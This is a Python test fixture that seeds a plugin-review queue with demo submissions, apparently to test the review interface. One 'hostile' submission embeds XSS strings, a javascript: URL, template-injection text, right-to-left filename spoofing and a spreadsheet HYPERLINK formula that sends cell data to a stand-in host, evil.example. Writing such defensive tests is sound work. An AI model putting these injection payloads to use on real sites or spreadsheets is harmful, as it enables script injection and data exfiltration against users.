"""A queue as on an ordinary day, and a plugin by somebody who means harm; run inside a server's own database."""

from datetime import UTC, datetime, timedelta

from django.core.management import call_command

from accounts.models import User
from adiuva.jobs.embedded import finish
from marketplace.models import PluginStatus, PluginVersion
from marketplace.review.claims import claim
from marketplace.review.decisions import approve, reject, take_down
from marketplace.review.reach.process import analyse
from tests.marketplace.review.submissions import CHECKS, pack, submit

RLO, ZERO_WIDTH = "\u202e", "\u200b"
MAIN = b"""import { summarize } from "./lib/summarize.js";

/** Writes a note when a meeting ends. */
export function activate(adiuva) {
  adiuva.calendar.on("ended", async (event) => {
    const text = summarize(event);
    await adiuva.notes.create({ title: event.title, text });
  });
}
"""
SUMMARIZE = b"""const LIMIT = 400;

export function summarize(event) {
  const people = event.attendees.map((one) => one.name).join(", ");
  return `${event.title}\\n${people}\\n${event.notes ?? ""}`.slice(0, LIMIT);
}
"""
README = b"# Meeting notes\n\nAfter each meeting a note with who was there and what was written down.\n"
SCRIPT = "<script>document.title = 'owned'; window.owned = 1</script>"
IMAGE = "<img src=x onerror='window.owned = 1'>"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
HOSTILE_FILES = {
    f"{IMAGE}.js": f"// {SCRIPT}\n".encode(),
    f"{SCRIPT}.html": f"<!doctype html>{SCRIPT}{IMAGE}<form action=/admin/logout/ method=post><button>x".encode(),
    "image.svg": f"<svg xmlns='http://www.w3.org/2000/svg' onload='window.owned = 1'>{SCRIPT}</svg>".encode(),
    f"safe{RLO}sj.exe": b"if (admin /*" + RLO.encode() + b" } */) {}\n",
    "{{ 7|add:'7' }}.txt": b"{% load i18n %}{{ request.user.email }}",
    "javascript:window.owned=1": b"text",
    "https://evil.example/": b"text",
}
STRIKE = [*CHECKS, {"code": IMAGE, "passed": False, "message": SCRIPT, "evidence": [IMAGE, FORMULA, {"a": SCRIPT}]}]
SHADOW = [
    *CHECKS,
    {"code": "undeclared_permissions", "passed": True, "message": "No other permission is used.", "evidence": []},
    {
        "code": "name_taken",
        "passed": False,
        "message": "The name looks like that of another plugin.",
        "evidence": ["“Focus Timer” – focus-timer by dev-1f0c2a44", "“Focus Tlmer” – differs in one letter"],
    },
    {"code": "secrets", "passed": True, "message": "No key or password was found.", "evidence": []},
]


def build() -> None:
    """Three that wait, the longest first: ``meeting-notes``, an update of ``focus-timer``, and ``hostile``."""
    call_command("seed_demo", verbosity=0)
    reviewer = User.objects.get(email="reviewer@example.com")
    boss = User.objects.create_user(email="lead-reviewer@example.com")
    author = User.objects.get(email="demo-power@example.com")
    now = datetime.now(UTC)
    first = submit("focus-timer", "1.4.0", author=author, at=now - timedelta(days=40), permissions=["read:tasks"])
    approve(version=first, reviewer=boss, notes="Clear code, does what it says.")
    refused = submit("focus-timer", "1.5.0", at=now - timedelta(days=9), permissions=["read:tasks", "write:calendar"])
    reject(
        version=refused,
        reviewer=boss,
        reason_code="permissions",
        notes="It blocks time in the calendar only if the user\nasks for it. Make that a plugin of its own.",
    )
    submit(
        "meeting-notes",
        "0.9.0",
        author=author,
        at=now - timedelta(days=3, hours=4),
        package=pack({"main.js": MAIN, "lib/summarize.js": SUMMARIZE, "README.md": README, "icon.png": b"\x89PNG\xff"}),
        description="After each meeting, a note with who was there and what was decided.",
        price_cents=499,
        permissions=["read:calendar", "write:notes"],
    )
    submit(
        "focus-timer",
        "1.6.0",
        at=now - timedelta(days=1, hours=2),
        package=pack({"main.js": MAIN, "lib/summarize.js": SUMMARIZE, "README.md": README, "icon.png": b"\x89PNG\xff"}),
        checks=SHADOW,
        description="Counts down while you work, and writes down for which task.",
        price_cents=299,
        permissions=["read:tasks", "write:tasks", "read:projects"],
    )
    submit(
        "hostile",
        "1.0.0-rc.1+build.7",
        author=author,
        at=now - timedelta(hours=5),
        package=pack(HOSTILE_FILES),
        checks=STRIKE,
        name=f"Nice {IMAGE}",
        description=f"{SCRIPT}{FORMULA}{RLO}txet{ZERO_WIDTH}",
        category=f"A{SCRIPT}",
        permissions=["read:tasks", f"read:{IMAGE}"],
        entrypoint=f"{IMAGE}.js",
    )
    down = submit("clip-board", "2.0.1", author=author, at=now - timedelta(days=60))
    approve(version=down, reviewer=boss)
    take_down(plugin=down.plugin, operator=reviewer, reason="It copies notes to a server of its author’s.")
    weather = submit("weather", "1.0.0", author=author, at=now - timedelta(days=20), price_cents=99)
    reject(version=weather, reviewer=boss, reason_code="broken", notes="It does not start.")
    finish()  # the demo plugin is looked at already, and only one is at a time
    for waiting in PluginVersion.objects.filter(status=PluginStatus.PENDING_REVIEW):
        PluginVersion.objects.filter(pk=waiting.pk).update(reach=analyse(waiting))


def build_long() -> None:
    """A morning's work: ``chore-01``, which has waited longest, to ``chore-12``, each with two files; a colleague has
    claimed the second, and of the last plugin an older version waits, too. And ``errand``, which is none of them.
    """
    call_command("seed_demo", verbosity=0)
    PluginVersion.objects.filter(status=PluginStatus.PENDING_REVIEW).delete()
    author = User.objects.get(email="demo-power@example.com")
    colleague = User.objects.create_user(email="lead-reviewer@example.com")
    package = pack({"main.js": MAIN, "lib/summarize.js": SUMMARIZE})
    start = datetime.now(UTC) - timedelta(days=2)
    for number in range(1, 13):
        at = start + timedelta(hours=number)
        version = submit(f"chore-{number:02}", "1.1.0", author=author, at=at, package=package)
        if number == 2:
            claim(version=version, reviewer=colleague)
    submit("chore-12", "1.0.0", at=start + timedelta(hours=20), package=package)
    submit("errand", "1.0.0", package=package)
